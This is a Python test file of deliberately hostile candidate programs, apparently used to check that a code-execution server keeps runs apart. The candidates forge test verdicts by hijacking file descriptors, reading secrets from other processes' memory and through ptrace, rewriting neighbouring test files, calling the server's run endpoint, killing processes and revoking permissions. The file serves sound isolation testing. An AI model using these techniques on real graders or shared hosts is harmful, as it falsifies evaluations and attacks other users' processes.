"""Candidates that forge their verdict, or spoil others', where runs on one server are not kept apart.

Each tries for `SECONDS`, at its start, and then answers wrongly. Where it succeeds, a test passes that the
candidate does not compute: its own, or one of the runs beside it.
"""

from __future__ import annotations

from typing import NamedTuple

SECONDS = 0.4

TESTS = "assert f(1) == 'expected-{secret}'\nassert f(2) == 'expected-{secret}'\n"
"""The expected value is a secret that no honest candidate computes, so every pass is forged."""
WRONG = "def f(n):\n    return 'no'\n"
"""A candidate that tries nothing; a hostile one beside it may change its verdict."""


class Forging(NamedTuple):
    name: str
    code: str


_START = """
import os, sys, time, glob, json, signal, ctypes, base64, re, threading
REPORT = b'{"started": true}\\n{"total": 2}\\n{"passed": 2, "failures": [], "lost": ""}\\n'
libc = ctypes.CDLL(None, use_errno=True)
answer = 'no'
def f(n):
    return answer
def others():
    ours = {os.getpid(), os.getppid()}
    seen = attempt(os.listdir, '/proc') or map(str, range(max(2, os.getpid() - 200), os.getpid() + 200))
    for name in seen:
        if name.isdigit() and int(name) not in ours:
            yield int(name)
def attempt(way, *given):
    try:
        return way(*given)
    except Exception:
        return None
def learn(text):
    global answer
    secret = re.search(rb"expected-[0-9a-f]{8,}", text)
    if secret:
        answer = secret.group().decode()
def read(path):
    with open(path, 'rb') as file:
        return file.read(1 << 22)
end = time.monotonic() + %s
"""

_END = """
while time.monotonic() < end:
    try:
        tries()
    except Exception:
        pass
    time.sleep(.002)
"""

_SEARCH = """
def search(pid):
    with open(f'/proc/{pid}/mem', 'rb', buffering=0) as memory:
        for line in open(f'/proc/{pid}/maps'):
            if ' rw-p ' not in line or '/' in line:
                continue
            first, last = (int(word, 16) for word in line.split()[0].split('-'))
            memory.seek(first)
            learn(attempt(memory.read, min(last - first, 1 << 24)) or b'')
"""

_WAYS = {
    "writes a report into the tests' side's descriptor": """
def forge(pid):
    with open(f'/proc/{pid}/fd/4', 'wb', buffering=0) as report:
        report.write(REPORT)
    os.kill(pid, signal.SIGKILL)
def tries():
    for pid in others():
        attempt(forge, pid)
""",
    "takes the tests' side's descriptor": """
def forge(pid):
    process = os.pidfd_open(pid)
    taken = libc.syscall(438, process, 4, 0)
    if taken >= 0:
        os.write(taken, REPORT)
        os.kill(pid, signal.SIGKILL)
        os.close(taken)
    os.close(process)
def tries():
    for pid in others():
        attempt(forge, pid)
""",
    "reads what is expected in the memory of others": _SEARCH + """
def tries():
    for pid in others():
        attempt(search, pid)
""",
    "traces the tests' side": _SEARCH + """
def stop(pid):
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        os.waitpid(pid, 0)
        attempt(search, pid)
        libc.ptrace(17, pid, 0, 0)
def tries():
    for pid in others():
        attempt(stop, pid)
""",
    "reads what is expected in the folders of others": """
def tries():
    for place in ('../..', '/tmp'):
        for folder, folders, names in os.walk(place):
            folders[:] = [name for name in folders if name.startswith(('tmp', 'box', 'work', 'cand'))]
            for name in names:
                learn(attempt(read, os.path.join(folder, name)) or b'')
""",
    "changes the orders of others before they start": """
def rewritten(text):
    found = re.findall(rb'b64decode\\("([A-Za-z0-9+/=]+)"\\)', text)
    for word in found:
        order = json.loads(base64.b64decode(word))
        changed = json.dumps(changed_in(order)).encode()
        text = text.replace(word, base64.b64encode(changed))
    return text
def changed_in(value):
    if isinstance(value, dict):
        return {key: changed_in(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [changed_in(inner) for inner in value]
    if isinstance(value, str) and len(value) > 100:
        code = attempt(base64.b64decode, value) or b''
        if b'assert f(' in code:
            return base64.b64encode(code.replace(b'assert f(', b'assert 1 or f(')).decode()
    return value
known = set()
def tries():
    for path in glob.glob('/tmp/tmp*/tmp*.py'):
        if path not in known:
            text = read(path)
            if b'b64decode("' in text:
                known.add(path)
                with open(path, 'wb') as file:
                    file.write(rewritten(text))
""",
    "asks the server to run a program": """
import urllib.request
# It only reads: where nothing stops it, it runs as the server's user, which may be root.
PROGRAM = r'''
import os, re
def search(pid):
    if b'/tmp/tmp' not in open(f'/proc/{pid}/cmdline', 'rb').read() or int(pid) == os.getpid():
        return
    with open(f'/proc/{pid}/mem', 'rb', buffering=0) as memory:
        for line in open(f'/proc/{pid}/maps'):
            if ' rw-p ' in line and '/' not in line:
                first, last = (int(word, 16) for word in line.split()[0].split('-'))
                memory.seek(first)
                print(re.findall(rb'expected-[0-9a-f]{8,}', memory.read(min(last - first, 1 << 24)))[:1])
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        search(pid)
    except (OSError, ValueError, OverflowError):
        pass
'''
def tries():
    body = json.dumps({'language': 'python', 'code': PROGRAM}).encode()
    header = {'Content-Type': 'application/json'}
    request = urllib.request.Request('@URL@/run_code', body, header)
    learn(urllib.request.urlopen(request, timeout=5).read())
""",
    "kills every process that it can": """
def tries():
    for pid in others():
        attempt(os.kill, pid, signal.SIGKILL)
""",
    "signals others through a descriptor": """
import fcntl, socket
def tries():
    ours, theirs = socket.socketpair()
    theirs.setblocking(False)
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    for pid in others():
        attempt(fcntl.fcntl, ours, fcntl.F_SETOWN, pid)
        attempt(fcntl.fcntl, ours, 10, signal.SIGKILL)  # F_SETSIG
        attempt(theirs.send, b'x')
""",
    "takes limits and modes from others": """
import resource
def tries():
    for pid in others():
        attempt(resource.prlimit, pid, resource.RLIMIT_FSIZE, (0, 0))
        attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1))
    for path in ['../..', *glob.glob('/tmp/tmp*'), *glob.glob('/tmp/tmp*/*')]:
        if os.path.realpath(path) != os.path.dirname(os.getcwd()):
            attempt(os.chmod, path, 0)
""",
}  # fmt: skip


def programs(url: str, seconds: float = SECONDS) -> list[Forging]:
    """The candidates.

    Args:
        url: of the server, as programs reach it.
        seconds: for which each tries.
    """
    start = _START % seconds
    return [Forging(name, start + way.replace("@URL@", url) + _END) for name, way in _WAYS.items()]
